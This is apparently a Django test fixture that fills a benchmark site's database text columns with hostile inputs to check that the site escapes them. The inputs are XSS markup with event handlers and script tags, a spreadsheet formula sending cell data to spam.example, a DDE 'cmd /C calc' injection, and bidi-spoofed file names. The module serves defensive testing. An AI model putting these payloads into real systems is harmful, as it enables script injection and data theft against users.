"""A stranger's worst words in every column that a stranger, or a file that a stranger wrote, can fill."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from django.db import transaction
from django.utils import timezone

from joulemark.published.plausible import is_printable
from joulemark_simulation.result_rows import Run, make_result
from measurements.boards.latest_results import refresh_latest_results
from measurements.boards.services import refresh_stale_cells
from measurements.catalog.models import AiModel, DataSet, HardwareClass, NameState, Suite, Task
from measurements.contributors.models import Contributor
from measurements.intake.models import State, Submission
from measurements.ledger.models import LeafKind
from measurements.ledger.services import append_leaf
from measurements.published.models import PublishedFigure, PublishedSeries
from measurements.review.models import Appeal

if TYPE_CHECKING:
    from collections.abc import Mapping

    from django.db.models import Model

CLASS = "planted"
"""A class, a function and a variable that markup of a stranger would make."""
TEXTS: Mapping[str, str] = {
    "markup": f"<b class={CLASS} onclick={CLASS}()>x</b><script>{CLASS}=1</script>",
    "10,000 letters": "W" * 10_000,
    "an event": f"\"'><img class={CLASS} src=x onerror={CLASS}()>",
    "directions": "\u202e\u2067\u200fgpj.exe \u05d0\u05d1 5\u202b\u0627",
    "a formula": '=HYPERLINK("http://spam.example/?"&A1;"x")',
    "a template": "{{ 7*7 }}{% now 'Y' %}{# x #}%s%(x)s{0}",
    "entities": "&lt;b&gt;&#0;&amp;]]></title></script><!-- --",
    "emoji": "\U0001f469\u200d\U0001f52c\U0001f1f7\U0001f1fa\U0001f3f4\U000e0067",
    "no width": "a\u200bb\u200c\u2060\ufeffc\u00ad\u034f",
    "another formula": "@SUM(1+9)*cmd|' /C calc'!A0",
    "lines": "a\u2028b\u2029c\u0085d",
    "combining": "Z" + "\u0351\u0344\u0322" * 60,
}
LINK = f"https://spam.example/\"'><b class={CLASS} onclick={CLASS}()>?a=1&b=2"
"""Importers take addresses of the web alone."""
PLANTED: Mapping[type[Model], tuple[str, ...]] = {
    Suite: ("title",),
    Task: ("title", "modality"),
    DataSet: ("title", "licence", "source"),
    AiModel: ("title", "licence", "owner", "family", "source"),
    HardwareClass: ("title", "architecture", "facts_source"),
    Contributor: ("display_name",),
    PublishedSeries: ("title", "source", "licence", "hardware_note"),
    PublishedFigure: ("source", "stratum", "validity"),
    Appeal: ("words",),
}
"""Columns of text by their table."""
OF_STRANGERS = (HardwareClass, Contributor, Appeal)
"""Tables that the doors fill. Into the others, importers and suites let nothing that turns the direction of writing."""
LINKS: Mapping[type[Model], str] = {AiModel: "link", PublishedSeries: "url"}
"""Columns that a page makes a link of."""


def plant(turn: int = 0) -> None:
    """Write the texts over what is there, each row another one, beginning with the text of this number."""
    texts = list(TEXTS.values())
    first, second = texts[turn % len(texts)], texts[(turn + 1) % len(texts)]
    _add_results(first, second)
    for table, columns in PLANTED.items():
        fitting = texts if table in OF_STRANGERS else list(filter(is_printable, texts))
        rows: list[Any] = list(table._default_manager.order_by("pk"))
        for place, row in enumerate(rows):
            for step, name in enumerate(columns):
                limit = getattr(table._meta.get_field(name), "max_length", None)
                setattr(row, name, fitting[(place + step + turn) % len(fitting)][:limit])
        if rows:
            table._default_manager.bulk_update(rows, columns)
    for table, name in LINKS.items():
        table._default_manager.update(**{name: LINK})
    printable = [row.pk for row in HardwareClass.objects.all() if is_printable(row.title)]
    HardwareClass.objects.filter(pk__in=printable[::2]).update(name_state=NameState.CONFIRMED)


def _add_results(first: str, second: str) -> None:
    """Results whose statements, findings and device have them; one of them is appealed against."""
    names = [first[:60], second[:60]]
    for by, name in zip(("eve", "trudy"), names, strict=True):
        make_result(Run(by=by, display_name=name, device=by, hardware=name, not_scored={"macro-f1": name}))
    finding = ("JM-EVIL", "reject", first)
    rejected = make_result(Run(by="eve", device="eve", state=State.REJECTED, findings=(finding,)))
    make_result(
        Run(by="eve", device="eve", state=State.QUARANTINED, findings=(("JM-ODD", "quarantine", second),))
    )
    now = timezone.now()
    with transaction.atomic():
        Appeal.objects.create(
            submission=Submission.objects.get(pk=rejected.pk),
            words=first,
            filed_at=now,
            decide_by=now,
            leaf=append_leaf(kind=LeafKind.APPEAL, subject=rejected.pk, facts={}),
        )
    refresh_stale_cells()
    refresh_latest_results()
